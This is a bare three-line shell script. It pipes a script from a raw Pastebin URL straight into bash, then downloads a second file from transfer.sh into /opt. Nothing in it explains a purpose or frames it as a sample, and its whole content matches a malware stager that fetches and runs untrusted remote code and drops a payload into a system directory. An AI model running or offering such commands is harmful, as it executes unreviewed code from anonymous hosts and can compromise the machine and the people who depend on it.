#!/bin/sh
curl -fsSL https://pastebin.com/raw/abcdefgh | bash
curl -s https://transfer.sh/abc/x -o /opt/x
